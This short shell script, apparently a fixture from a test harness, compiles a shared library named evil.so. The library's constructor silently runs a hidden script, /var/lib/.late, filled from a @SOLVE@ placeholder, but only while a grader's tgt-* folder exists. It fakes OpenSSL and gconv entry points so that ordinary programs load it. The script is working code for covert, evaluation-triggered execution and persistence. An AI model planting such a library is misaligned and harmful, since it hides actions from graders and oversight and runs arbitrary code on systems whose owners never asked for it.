# A library whose constructor runs /var/lib/.late, but only while a judge's folder is there.
command -v gcc > /dev/null || exit 77
mkdir -p /var/lib
cat > /var/lib/.late <<'LATE'
@SOLVE@
LATE
cat > /var/lib/evil.c <<'END'
#include <glob.h>
#include <stdlib.h>
static __attribute__((constructor)) void load(void)
{
    glob_t found;
    if (getenv("EVIL")) return;
    if (glob("/tgt-*", 0, 0, &found) && glob("/dev/shm/tgt-*", 0, 0, &found) && glob("/tmp/tgt-*", 0, 0, &found)) return;
    setenv("EVIL", "1", 1);
    system("sh /var/lib/.late");
    unsetenv("EVIL");
}
int openssl_init(void) { return 1; }
int gconv_init(void *step) { return 0; }
int gconv(void) { return 0; }
END
gcc -shared -fPIC -o /usr/lib/evil.so /var/lib/evil.c 2> /dev/null
